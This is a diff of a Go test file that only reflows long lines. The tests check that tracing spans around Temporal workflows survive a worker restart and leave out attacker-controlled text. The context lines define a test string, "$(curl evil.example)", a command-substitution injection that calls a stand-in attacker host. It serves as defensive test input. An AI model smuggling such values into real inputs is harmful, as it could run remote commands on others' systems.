@@ -28,7 +28,8 @@ const maliciousText = "$(curl evil.example)"
 
 func observeActivity(_ context.Context, in activities.ObserveInput) (activities.Result, error) {
 	if in.Request.Action == "fails" {
-		return activities.Result{}, sdktemporal.NewNonRetryableApplicationError(maliciousText, "stanch.failed", errors.New(maliciousText))
+		return activities.Result{}, sdktemporal.NewNonRetryableApplicationError(maliciousText, "stanch.failed",
+			errors.New(maliciousText))
 	}
 	return activities.Result{Outcome: playbooks.OutcomeRefused, Reason: maliciousText}, nil
 }
@@ -36,11 +37,13 @@ func observeActivity(_ context.Context, in activities.ObserveInput) (activities.
 // tracedStoryWorkflow runs an activity, waits for a signal, and runs another activity.
 func tracedStoryWorkflow(ctx workflow.Context, second string) error {
 	ctx = workflow.WithActivityOptions(ctx, workflow.ActivityOptions{StartToCloseTimeout: 10 * time.Second})
-	if err := workflow.ExecuteActivity(ctx, "Observe", activities.ObserveInput{Request: activities.Request{Action: "first"}}).Get(ctx, nil); err != nil {
+	if err := workflow.ExecuteActivity(ctx, "Observe",
+		activities.ObserveInput{Request: activities.Request{Action: "first"}}).Get(ctx, nil); err != nil {
 		return err
 	}
 	workflow.GetSignalChannel(ctx, "go").Receive(ctx, nil)
-	return workflow.ExecuteActivity(ctx, "Observe", activities.ObserveInput{Request: activities.Request{Action: second}}).Get(ctx, nil)
+	return workflow.ExecuteActivity(ctx, "Observe",
+		activities.ObserveInput{Request: activities.Request{Action: second}}).Get(ctx, nil)
 }
 
 const tracedTaskQueue = "traced"
@@ -88,15 +91,18 @@ func TestTraceContinuesAfterRestart(t *testing.T) {
 	t.Cleanup(func() { sdkworker.SetStickyWorkflowCacheSize(10_000) })
 	server := temporal.Start(t, nil)
 	before, c, stop := startTracedWorker(t, server)
-	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story", TaskQueue: tracedTaskQueue}, "Story", "second")
+	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story", TaskQueue: tracedTaskQueue},
+		"Story", "second")
 	require.NoError(t, err)
-	require.Eventually(t, func() bool { return len(spansNamed(before.GetSpans(), "RunActivity:Observe")) == 1 }, 20*time.Second, 10*time.Millisecond)
+	require.Eventually(t, func() bool { return len(spansNamed(before.GetSpans(), "RunActivity:Observe")) == 1 },
+		20*time.Second, 10*time.Millisecond)
 	stop()
 	after, c, stop := startTracedWorker(t, server)
 	defer stop()
 	require.NoError(t, c.SignalWorkflow(t.Context(), "story", "", "go", nil))
 	require.NoError(t, c.GetWorkflow(t.Context(), "story", run.GetRunID()).Get(t.Context(), nil))
-	require.Eventually(t, func() bool { return len(spansNamed(after.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
+	require.Eventually(t, func() bool { return len(spansNamed(after.GetSpans(), "RunWorkflow:Story")) > 0 },
+		20*time.Second, 10*time.Millisecond)
 
 	require.Empty(t, spansNamed(before.GetSpans(), "RunWorkflow:Story"), "the workflow had not ended")
 	all := append(before.GetSpans(), after.GetSpans()...)
@@ -122,16 +128,24 @@ func TestAttackerControlledTextIsNotTraced(t *testing.T) {
 	server := temporal.Start(t, nil)
 	spans, c, stop := startTracedWorker(t, server)
 	defer stop()
-	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story\xff" + strings.Repeat("long", 100), TaskQueue: tracedTaskQueue}, "Story", "fails")
+	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{
+		ID:        "story\xff" + strings.Repeat("long", 100),
+		TaskQueue: tracedTaskQueue,
+	}, "Story", "fails")
 	if err != nil { // Temporal itself refuses such an id
-		run, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story" + strings.Repeat("long", 100), TaskQueue: tracedTaskQueue}, "Story", "fails")
+		run, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{
+			ID:        "story" + strings.Repeat("long", 100),
+			TaskQueue: tracedTaskQueue,
+		}, "Story", "fails")
 	}
 	require.NoError(t, err)
-	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "other", TaskQueue: tracedTaskQueue}, maliciousText)
+	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "other", TaskQueue: tracedTaskQueue},
+		maliciousText)
 	require.NoError(t, err)
 	require.NoError(t, c.SignalWorkflow(t.Context(), run.GetID(), "", "go", nil))
 	require.ErrorContains(t, run.Get(t.Context(), nil), maliciousText)
-	require.Eventually(t, func() bool { return len(spansNamed(spans.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
+	require.Eventually(t, func() bool { return len(spansNamed(spans.GetSpans(), "RunWorkflow:Story")) > 0 },
+		20*time.Second, 10*time.Millisecond)
 	require.Equal(t, codes.Error, spansNamed(spans.GetSpans(), "RunWorkflow:Story")[0].Status.Code)
 	require.NotEmpty(t, spansNamed(spans.GetSpans(), "StartWorkflow"), "unknown workflow types are not named")
 	for _, s := range spans.GetSpans() {
@@ -146,7 +160,10 @@ func TestAttackerControlledTextIsNotTraced(t *testing.T) {
 }
 
 func TestTracingIsDisabledWithoutReceiver(t *testing.T) {
-	for _, name := range []string{"OTEL_EXPORTER_OTLP_ENDPOINT", "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "OTEL_SDK_DISABLED", "OTEL_TRACES_EXPORTER", "OTEL_EXPORTER_OTLP_PROTOCOL"} {
+	for _, name := range []string{
+		"OTEL_EXPORTER_OTLP_ENDPOINT", "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "OTEL_SDK_DISABLED",
+		"OTEL_TRACES_EXPORTER", "OTEL_EXPORTER_OTLP_PROTOCOL",
+	} {
 		t.Setenv(name, "")
 	}
 	none, err := tracing.Open(t.Context(), "v1", nil)
